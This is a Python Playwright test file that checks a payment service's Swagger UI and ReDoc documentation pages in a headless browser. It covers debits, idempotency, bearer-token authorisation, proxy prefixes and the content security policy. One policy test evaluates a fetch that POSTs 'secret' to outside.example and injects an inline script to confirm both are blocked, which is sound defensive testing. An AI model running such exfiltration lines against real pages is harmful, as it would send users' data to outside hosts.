"""/docs and /redoc in a real browser: they work, and nothing of them comes from elsewhere."""

import json
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from typing import Any
from uuid import uuid4

import httpx
import pytest
from database import Database
from issuer import Issuer, make_token
from playwright.sync_api import (
    Browser,
    BrowserContext,
    ConsoleMessage,
    Error,
    Locator,
    Page,
    expect,
    sync_playwright,
)
from programs import find_program
from servers import make_settings, served
from starlette.types import ASGIApp, Receive, Scope, Send

from app.main import create_app
from devstack.postgres import apply_seed, database_url

# A browser uses the whole machine. On a busy one it may stop drawing, and Playwright's click waits
# until the button stands still on the screen: the tests press Enter instead.
pytestmark = pytest.mark.alone

ARGUMENTS = [
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
    "--disable-gpu-watchdog",
    # Also on a machine with a network, no other than this one can be reached.
    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
]
TIMEOUT_MILLISECONDS = 30_000
NOTE_VIOLATIONS = """
addEventListener("securitypolicyviolation", (violation) => {
  console.error(`violation: ${violation.effectiveDirective} ${violation.blockedURI}`);
});
"""
ADD_INLINE_SCRIPT = """
const script = document.createElement("script");
script.textContent = "document.title = 'changed'";
document.body.append(script);
"""

OPERATION = "debit_payment_payments_debit_post"
LINK = f"/docs#/default/{OPERATION}"
ITEM = "550e8400-e29b-41d4-a716-446655440000"  # the seed's coffee, at 350
ALICE = 1001
# ReDoc has no option to leave its maker's logo out; the policy stops it, and ReDoc then hides it.
REDOC_LOGO = "https://cdn.redoc.ly/redoc/logo-mini.svg"


class Watched:
    """A page of a service's, every address that it asks for, and every error that is written."""

    def __init__(self, context: BrowserContext, service_url: str) -> None:
        self.page = context.new_page()
        self.errors: list[str] = []
        self._addresses: list[str] = []
        self._own = (f"{service_url}/", "data:")
        context.on("request", lambda request: self._addresses.append(request.url))
        context.on("console", self._note_console)
        context.on("weberror", lambda error: self.errors.append(str(error.error)))

    def _note_console(self, message: ConsoleMessage) -> None:
        # The browser calls every status above 399 an error, also a problem that is meant.
        if message.type == "error" and "/payments/" not in message.location["url"]:
            self.errors.append(message.text)

    @property
    def foreign_addresses(self) -> list[str]:
        """What was asked of others than the service, whether or not it was stopped."""
        assert self._addresses
        return [address for address in self._addresses if not address.startswith(self._own)]


Watch = Callable[[httpx.Client], Watched]


@pytest.fixture(scope="module")
def browser_path() -> str:
    return find_program("chromium", "chromium-browser", "google-chrome")


@pytest.fixture(scope="module")  # its event loop stays in this thread until it is closed
def browser(browser_path: str) -> Iterator[Browser]:
    with (
        sync_playwright() as playwright,
        playwright.chromium.launch(executable_path=browser_path, args=ARGUMENTS) as browser,
    ):
        yield browser


@pytest.fixture
def watch(browser: Browser) -> Iterator[Watch]:
    """Open an empty page for a service, in a profile of its own."""
    with ExitStack() as stack:

        def open_page(service: httpx.Client) -> Watched:
            url = str(service.base_url).rstrip("/")
            context = stack.enter_context(browser.new_context(base_url=url))
            context.set_default_timeout(TIMEOUT_MILLISECONDS)
            context.add_init_script(NOTE_VIOLATIONS)
            return Watched(context, url)

        yield open_page


@pytest.fixture(scope="module")
def seeded_service(service: httpx.Client, migrated_port: int) -> httpx.Client:
    apply_seed(database_url(migrated_port))  # the document's examples name its users and items
    return service


@pytest.fixture
def page(watch: Watch, seeded_service: httpx.Client) -> Iterator[Page]:
    """A page that, whatever is done with it, asks nobody else and has no error to write."""
    watched = watch(seeded_service)
    yield watched.page
    assert watched.foreign_addresses == []
    assert watched.errors == []


@pytest.fixture
def alice_has_5000(seeded_service: httpx.Client, database: Database) -> None:
    del seeded_service  # the seed comes first
    database.connection.execute(
        'update public."Users" set balance = 5000 where card_id = %s', (ALICE,)
    )


def test_the_link_opens_the_debit(page: Page) -> None:
    page.goto(LINK)
    expect(page).to_have_title("Payment service - Swagger UI")
    expect(page.locator(".opblock.is-open")).to_have_count(1)
    expect(operation(page)).to_be_in_viewport()
    expect(operation(page).locator(".opblock-summary-path")).to_have_text("/payments/debit")
    expect(operation(page).get_by_role("button", name="Try it out")).to_be_visible()


@pytest.mark.usefixtures("alice_has_5000")
def test_try_it_out_charges_the_seeded_user_and_shows_the_new_balance(
    page: Page, database: Database
) -> None:
    try_it_out(page)
    status, payment = execute(page)
    assert (status, payment["user_id"], payment["amount"]) == ("200", ALICE, 350)
    assert payment["new_balance"] == 4650 == database.balance(ALICE)


@pytest.mark.usefixtures("alice_has_5000")
def test_executing_twice_with_one_key_charges_once(page: Page, database: Database) -> None:
    try_it_out(page)
    operation(page).get_by_placeholder("Idempotency-Key").fill(f"browser-{uuid4()}")
    assert execute(page) == execute(page)
    expect(shown_answer(page)).to_contain_text("idempotent-replayed: true")
    assert database.balance(ALICE) == 4650


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        ({"user_id": 1004, "item_id": ITEM}, "402", "insufficient_funds"),
        ({"user_id": 404404, "item_id": ITEM}, "404", "user_not_found"),
        ({"user_id": ALICE, "item_id": ITEM, "amount": 1}, "422", "invalid_request"),
    ],
)
def test_a_failed_debit_shows_its_problem(
    page: Page, body: dict[str, object], status: str, code: str
) -> None:
    try_it_out(page)
    operation(page).locator("textarea").fill(json.dumps(body))
    shown_status, problem = execute(page)
    assert (shown_status, problem["code"]) == (status, code)


@pytest.fixture
def issuer(browser: Browser) -> Iterator[Issuer]:
    del browser  # without one there is nothing to do here
    with Issuer() as issuer:
        yield issuer


@pytest.mark.usefixtures("alice_has_5000")
def test_authorize_sends_the_token_until_the_page_is_reloaded(
    watch: Watch,
    start_service: Callable[..., httpx.Client],
    issuer: Issuer,
    database: Database,
) -> None:
    token = make_token()
    watched = watch(start_service(auth_jwks_url=issuer.url))
    page = watched.page
    try_it_out(page)
    assert execute(page)[1]["code"] == "unauthenticated"
    page.get_by_role("button", name="Authorize", exact=True).press("Enter")
    page.get_by_role("textbox", name="auth-bearer-value").fill(token)
    page.get_by_role("button", name="Apply credentials").press("Enter")
    page.get_by_role("button", name="Close", exact=True).press("Enter")
    with page.expect_request("**/payments/debit") as sent:
        status, payment = execute(page)
    assert sent.value.headers["authorization"] == f"Bearer {token}"
    assert status == "200"
    assert payment["new_balance"] == 4650 == database.balance(ALICE)
    page.reload()
    try_it_out(page)
    assert execute(page)[1]["code"] == "unauthenticated"
    assert watched.foreign_addresses == []
    assert watched.errors == []


class RemovesPrefix:
    """What a proxy does that serves the service under /pay."""

    def __init__(self, app: ASGIApp) -> None:
        self._app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http":
            assert scope["raw_path"].decode().removeprefix(scope["root_path"]).startswith("/pay/")
            scope["path"] = scope["path"].replace("/pay/", "/", 1)
        await self._app(scope, receive, send)


@pytest.mark.usefixtures("alice_has_5000")
@pytest.mark.parametrize("root_path", ["", "/pay"])
def test_the_pages_work_behind_a_proxy_that_strips_a_prefix(
    watch: Watch, gateway_url: str, products_url: str, root_path: str
) -> None:
    service = create_app(make_settings(supabase_url=gateway_url, products_service_url=products_url))
    with (
        served(RemovesPrefix(service), root_path) as url,
        httpx.Client(base_url=url) as client,
    ):
        watched = watch(client)
        try_it_out(watched.page, f"/pay{LINK}")
        assert execute(watched.page)[1]["new_balance"] == 4650
        watched.page.goto("/pay/redoc")
        watched.page.get_by_role("button", name="post /payments/debit").press("Enter")
        shown = watched.page.get_by_text(f"{url}/pay/./payments/debit")
        expect(shown).to_be_visible()  # the dot is ReDoc's way to join a relative address


def test_redoc_shows_the_debit(watch: Watch, seeded_service: httpx.Client) -> None:
    watched = watch(seeded_service)
    page = watched.page
    with page.expect_event("requestfailed") as stopped:
        page.goto("/redoc")
    expect(page).to_have_title("Payment service - ReDoc")
    debit = page.locator(f"[id='operation/{OPERATION}']")
    expect(debit.get_by_role("heading", name="Charge a user for an item")).to_be_visible()
    debit.get_by_role("tab", name="402").dispatch_event("click")
    expect(debit.get_by_text('"insufficient_funds"')).to_be_visible()
    expect(page.get_by_alt_text("redocly logo")).to_have_count(0)
    assert (stopped.value.url, stopped.value.failure) == (REDOC_LOGO, "csp")
    assert watched.foreign_addresses == [REDOC_LOGO]
    assert [error for error in watched.errors if REDOC_LOGO not in error] == []


def test_the_policy_blocks_scripts_that_send_data_elsewhere(
    watch: Watch, seeded_service: httpx.Client
) -> None:
    watched = watch(seeded_service)
    page = watched.page
    page.goto("/docs")
    with (
        page.expect_console_message(lambda message: "violation: connect-src" in message.text),
        pytest.raises(Error, match="Failed to fetch"),
    ):
        page.evaluate("fetch('http://outside.example/', {method: 'POST', body: 'secret'})")
    with page.expect_console_message(lambda message: "violation: script-src" in message.text):
        page.evaluate(ADD_INLINE_SCRIPT)
    expect(page).to_have_title("Payment service - Swagger UI")
    assert "violation: connect-src http://outside.example/" in watched.errors


def test_the_recorder_detects_foreign_requests(watch: Watch, seeded_service: httpx.Client) -> None:
    watched = watch(seeded_service)
    with pytest.raises(Error, match="ERR_NAME_NOT_RESOLVED"):
        watched.page.goto("http://outside.example/")
    assert watched.foreign_addresses == ["http://outside.example/"]


def operation(page: Page) -> Locator:
    return page.locator(f"#operations-default-{OPERATION}")


def shown_answer(page: Page) -> Locator:
    return operation(page).locator(".live-responses-table .response")


def try_it_out(page: Page, link: str = LINK) -> None:
    page.goto(link)
    operation(page).get_by_role("button", name="Try it out").press("Enter")


def execute(page: Page) -> tuple[str, Any]:
    """Send the request, and read from the page the status and the body of its answer."""
    with page.expect_response("**/payments/debit") as answer:
        operation(page).get_by_role("button", name="Execute").press("Enter")
    expect(shown_answer(page)).to_contain_text(answer.value.headers["x-request-id"])
    status = shown_answer(page).locator(".response-col_status").inner_text()
    body = shown_answer(page).locator(".highlight-code code").first.inner_text()
    return status.split()[0], json.loads(body)
